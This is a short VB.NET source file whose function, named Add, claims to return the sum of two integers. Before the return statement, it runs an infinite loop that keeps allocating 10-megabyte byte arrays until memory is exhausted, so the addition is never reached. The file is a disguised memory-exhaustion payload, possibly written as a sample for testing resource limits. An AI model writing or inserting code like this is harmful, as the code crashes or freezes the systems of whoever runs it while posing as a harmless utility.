Module Module1
    Function Add(a As Integer, b As Integer) As Integer
        Dim held As New List(Of Byte())
        While True
            held.Add(New Byte(10000000) {})
        End While
        Return a + b
    End Function
End Module
